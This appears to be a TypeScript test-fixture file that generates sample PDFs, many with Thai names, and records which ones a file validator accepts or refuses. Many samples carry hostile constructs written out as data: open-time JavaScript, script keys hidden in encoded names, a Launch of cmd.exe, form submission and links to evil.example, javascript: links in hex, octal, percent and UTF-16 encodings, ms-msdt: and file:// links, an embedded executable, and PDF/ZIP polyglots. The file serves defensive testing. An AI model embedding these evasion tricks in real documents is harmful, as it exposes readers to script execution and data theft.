import { lockedPdf } from './make/lockedPdf.ts';
import { packedPdf, pdfOf, streamOf } from './make/pdf.ts';
import { typstPdf } from './make/typst.ts';
import type { Sample } from './sample.ts';
import { makeZip } from './make/zip.ts';

const pdf = 'application/pdf';
const active = (title: string, bytes: Sample['bytes']): Sample => ({
  title: `PDF ${title}`,
  name: 'ประกาศ.pdf',
  bytes,
  refused: ['active_content'],
});

const honest: readonly Sample[] = [
  {
    title: 'PDF of a Thai announcement, two pages',
    name: 'ประกาศผู้ว่าราชการ.pdf',
    bytes: () => typstPdf('= ประกาศ\nผู้ว่าการน้ำประปา\n#pagebreak()\nหน้า ๒ ปีงบประมาณ ๒๕๖๙'),
    mediaType: pdf,
    text: 'read',
    says: 'ปีงบประมาณ',
    pictures: 2,
  },
  {
    title: 'PDF made by hand',
    name: 'report.pdf',
    bytes: () => pdfOf(),
    text: 'read',
    says: 'Annual budget',
    pictures: 1,
  },
  { title: 'PDF with its objects packed', name: 'packed.pdf', bytes: () => packedPdf(''), mediaType: pdf },
  {
    title: 'PDF that opens at a place in itself',
    name: 'word.pdf',
    bytes: () => pdfOf({ catalogue: '/OpenAction[3 0 R /FitH 800]' }),
    mediaType: pdf,
  },
  {
    title: 'PDF with a link to an address',
    name: 'link.pdf',
    bytes: () =>
      pdfOf({
        page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.oic.go.th)>>>>]',
      }),
    mediaType: pdf,
  },
  {
    title: 'PDF with letters named as actions are',
    name: 'font.pdf',
    bytes: () =>
      pdfOf({
        objects: ['<</Type/Font/Subtype/Type1/Encoding<</Type/Encoding/Differences[1/AA/JS/EF/XFA]>>>>'],
      }),
    text: 'read',
  },
  {
    title: 'PDF of 25 pages: the first 20 are drawn',
    name: 'งบ.pdf',
    bytes: () =>
      typstPdf(Array.from({ length: 25 }, (_, page) => `page ${page + 1}`).join('\n#pagebreak()\n')),
    text: 'read',
    pictures: 20,
  },
  {
    title: 'PDF of a scan without text',
    name: 'สแกน.pdf',
    bytes: () => scan(),
    text: 'unreadable',
    pictures: 1,
  },
  {
    title: 'PDF with a national ID',
    name: 'รายชื่อ.pdf',
    bytes: () => typstPdf('เลขประจำตัวประชาชน 1-1017-00230-70-8'),
    text: 'read',
    finds: ['national_id'],
  },
];

/** A page with a picture over all of it and no text. */
function scan(): Buffer {
  const image = streamOf(
    '/Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 8',
    'x'.repeat(64),
  );
  const content = streamOf('', 'q 595 0 0 842 0 0 cm /I Do Q');
  return pdfOf({ page: '/Contents 6 0 R/Resources<</XObject<</I 5 0 R>>>>', objects: [image, content] });
}

const acting: readonly Sample[] = [
  active('with a script that runs on opening', () =>
    pdfOf({ catalogue: '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>' }),
  ),
  active('with a named script', () =>
    pdfOf({ catalogue: '/Names<</JavaScript<</Names[(a) 5 0 R]>>>>', objects: ['<</S/JavaScript/JS(1)>>'] }),
  ),
  active('with a script under a name written in codes', () =>
    pdfOf({ catalogue: '/OpenAction<</S/#4Aava#53cript/J#53(1)>>' }),
  ),
  active('with a script in packed objects', () => packedPdf('/OpenAction<</S/JavaScript/JS(1)>>')),
  active('with a script in packed objects, named in codes', () =>
    packedPdf('/OpenAction 4 0 R', ['<</S/J#61vaScript/#4aS(1)>>']),
  ),
  active('that opens an address told after a stream that seems to end', () =>
    pdfOf({
      catalogue: '/OpenAction 6 0 R',
      objects: [streamOf('', 'endstream\nendobj\n('), '<</S/URI/URI(http://evil.example)>>'],
    }),
  ),
  active('that opens an address after a place', () =>
    pdfOf({
      catalogue: '/OpenAction 5 0 R',
      objects: ['<</S/GoTo/D[3 0 R /Fit]/Next 6 0 R>>', '<</S/URI/URI(http://evil.example)>>'],
    }),
  ),
  active('that starts a program', () => pdfOf({ catalogue: '/OpenAction<</S/Launch/F(cmd.exe)>>' })),
  active('that opens an address', () =>
    pdfOf({ catalogue: '/OpenAction<</S/URI/URI(http://evil.example)>>' }),
  ),
  active('that opens an address by reference', () =>
    pdfOf({ catalogue: '/OpenAction 5 0 R', objects: ['<</S/URI/URI(http://evil.example)>>'] }),
  ),
  active('that opens an address, packed', () =>
    packedPdf('/OpenAction 4 0 R', ['<</Type/Action/S/URI/URI(http://evil.example)>>']),
  ),
  active('that opens one of several things after a place', () =>
    pdfOf({
      catalogue: '/OpenAction 5 0 R',
      objects: ['<</S/GoTo/D[3 0 R /Fit]/Next[6 0 R]>>', '<</S/URI/URI(http://evil.example)>>'],
    }),
  ),
  active('that opens an address whose kind is told elsewhere', () =>
    pdfOf({ catalogue: '/OpenAction<</S 5 0 R/URI(http://evil.example)>>', objects: ['/URI'] }),
  ),
  active('that opens a file on a foreign machine', () =>
    pdfOf({ catalogue: '/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a\\\\b.pdf)/D[0/Fit]>>' }),
  ),
  active('that opens a thread of a foreign file, by reference', () =>
    pdfOf({
      catalogue: '/OpenAction 5 0 R',
      objects: ['<</S/Thread/F(\\\\\\\\evil.example\\\\a\\\\b.pdf)/D 0>>'],
    }),
  ),
  active('with an action of a page', () => pdfOf({ page: '/AA<</O<</S/URI/URI(http://evil.example)>>>>' })),
  active('that sends a form', () =>
    pdfOf({
      page: '/Annots[<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://evil.example)>>>>]',
    }),
  ),
  active('with an XFA form', () =>
    pdfOf({ catalogue: '/AcroForm<</Fields[]/XFA 5 0 R>>', objects: [streamOf('', '<xdp/>')] }),
  ),
  active('with a film', () => pdfOf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' })),
];

const linked = (action: string, objects: readonly string[] = []) =>
  pdfOf({ page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<${action}>>>>]`, objects });
const link = (address: string) => linked(`/S/URI/URI${address}`);
const inHex = (text: string) => `<${Buffer.from(text, 'latin1').toString('hex')}>`;

/** Addresses that a click follows to something else than a page, as they may be written. */
const ACTING_ADDRESSES: Readonly<Record<string, string>> = {
  'that runs a script': '(javascript:app.alert\\(1\\))',
  'that runs a script, in capitals': '(JaVaScRiPt:alert)',
  'that runs a script, in hexadecimal digits': inHex('javascript:alert(1)'),
  'that runs a script, in hexadecimal digits with blanks': '<6A 61 76 61 73 63 72 69 70 74 3A 31>',
  'that runs a script, in codes': '(\\152avascript\\0721)',
  'that runs a script, over two lines': '(java\\\nscript:1)',
  'that runs a script, with a tabulator and blanks': '( java\\tscript :1)',
  'that runs a script, in percent codes': '(%6aavascript%3A1)',
  'that runs a script, in percent codes of percent codes': '(%256aavascript%253A1)',
  'that runs a script, in UTF-16': `<feff${Buffer.from('javascript:1', 'utf16le').swap16().toString('hex')}>`,
  'that runs a script of Visual Basic': '(vbscript:1)',
  'that is a page of its own': '(data:text/html;base64,PHNjcmlwdD4=)',
  'to a file': '(file:///c:/windows/system32/cmd.exe)',
  'to a foreign machine': '(\\\\\\\\evil.example\\\\a)',
  'that starts a program': '(ms-msdt:/id)',
};

const following: readonly Sample[] = [
  ...Object.entries(ACTING_ADDRESSES).map(([title, address]) =>
    active(`with a link ${title}`, () => link(address)),
  ),
  active('with a link whose address is an object of its own', () =>
    linked('/S/URI/URI 5 0 R', ['(javascript:1)']),
  ),
  active('with a link that runs a script, packed', () =>
    packedPdf('/Outlines<</First 4 0 R>>', ['<</Title(a)/A<</S/URI/URI(javascript:1)>>>>']),
  ),
  active('with a script after a link', () =>
    linked('/S/URI/URI(https://www.oic.go.th)/Next<</S/JavaScript/JS(1)>>'),
  ),
  active('whose addresses begin with a script', () => pdfOf({ catalogue: '/URI<</Base(javascript:)>>' })),
  active('with a link into another file', () => linked('/S/GoToR/F(b.pdf)/D[0/Fit]')),
  active('with a link that sends a form', () => linked('/S/SubmitForm/F(https://evil.example)')),
  active('with a link that takes data in', () => linked('/S/ImportData/F(a.fdf)')),
  ...[
    '(https://www.oic.go.th/?u=javascript:1)',
    '(http://www.obec.go.th:8080/a%20b)',
    '(mailto:saraban@obec.go.th)',
    '(tel:+6622885000)',
    '(www.obec.go.th:8080/a)',
    '(%E0%B8%81%3A1.pdf)',
    '(#page=2)',
  ].map((address): Sample => ({
    title: `PDF with a link to ${address}`,
    name: 'ลิงก์.pdf',
    bytes: () => link(address),
    mediaType: pdf,
  })),
  {
    title: 'PDF with a link to a place in itself',
    name: 'สารบัญ.pdf',
    bytes: () => linked('/S/GoTo/D[3 0 R /Fit]'),
    mediaType: pdf,
  },
  {
    title: 'PDF that is about scripts',
    name: 'คู่มือ.pdf',
    bytes: () =>
      pdfOf({
        catalogue: '/Lang(th)',
        objects: ['<</Title(javascript: for beginners)>>'],
        trailer: '/Info 5 0 R',
      }),
    mediaType: pdf,
  },
];

const hiding: readonly Sample[] = [
  {
    title: 'PDF with a file attached inside',
    name: 'แฟ้ม.pdf',
    bytes: () =>
      pdfOf({
        catalogue: '/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>',
        objects: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', streamOf('/Type/EmbeddedFile', 'MZ')],
      }),
    refused: ['embedded_files'],
  },
  {
    title: 'PDF portfolio',
    name: 'portfolio.pdf',
    bytes: () => packedPdf('/Collection<</Type/Collection>>'),
    refused: ['embedded_files'],
  },
  {
    title: 'PDF locked with a password',
    name: 'ลับ.pdf',
    bytes: () => lockedPdf('with password'),
    refused: ['password_protected'],
  },
  {
    title: 'PDF that restricts its readers',
    name: 'จำกัด.pdf',
    bytes: () => lockedPdf('without password'),
    refused: ['restricted'],
  },
  { title: 'PDF cut off', name: 'ขาด.pdf', bytes: () => pdfOf().subarray(0, 300), refused: ['broken'] },
  {
    title: 'PDF of nothing but its marks',
    name: 'x.pdf',
    bytes: () => Buffer.from('%PDF-1.7\n%%EOF\n'),
    refused: ['broken'],
  },
  {
    title: 'PDF without a page',
    name: 'x.pdf',
    bytes: () =>
      Buffer.from(
        pdfOf().toString('latin1').replace('/Kids[3 0 R]/Count 1', '/Kids[     ]/Count 0'),
        'latin1',
      ),
    refused: ['broken'],
  },
  {
    title: 'PDF that is a ZIP as well',
    name: 'สองอย่าง.pdf',
    bytes: () => makeZip([{ name: 'a.exe', data: 'MZ' }], { before: pdfOf() }),
    refused: ['two_types_at_once'],
  },
  {
    title: 'PDF behind other bytes',
    name: 'late.pdf',
    bytes: () => Buffer.concat([Buffer.from('\u0001\u0002 something\n', 'latin1'), pdfOf()]),
    refused: ['two_types_at_once'],
  },
  {
    title: 'PDF with a web page at its end',
    name: 'page.pdf',
    bytes: () => Buffer.concat([pdfOf(), Buffer.from('<script>alert(1)</script>')]),
    refused: ['two_types_at_once'],
  },
  {
    title: 'PDF with much behind its end',
    name: 'tail.pdf',
    bytes: () => Buffer.concat([pdfOf(), Buffer.alloc(5000, 'x')]),
    refused: ['two_types_at_once'],
  },
];

export const PDF_SAMPLES: readonly Sample[] = [...honest, ...acting, ...following, ...hiding];
